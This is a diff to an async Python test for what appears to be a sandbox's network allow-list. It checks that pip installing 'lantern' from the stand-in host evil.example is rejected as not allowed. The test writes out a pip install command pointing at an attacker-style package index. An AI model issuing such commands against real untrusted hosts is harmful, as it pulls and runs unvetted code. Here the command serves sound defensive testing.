@@ -83,7 +83,7 @@ async def test_pip_installs_from_the_python_preset(internet: Authority, tmp_path
         assert result.ended == "exit 0", said
         result, said = await bench.run("python3", "-c", "import lantern; print(lantern.LIGHT)", cwd="got")
         assert said == "on\n"
-        elsewhere = ["--retries=1", "--index-url=https://evil.example/simple"]
+        elsewhere = ["--target=other", "--retries=1", "--index-url=https://evil.example/simple"]
         result, said = await bench.run("python3", "-m", "pip", "install", *elsewhere, "lantern")
         assert result.exit_code == 1
         assert "the host evil.example is not in the allowed hosts" in said, said
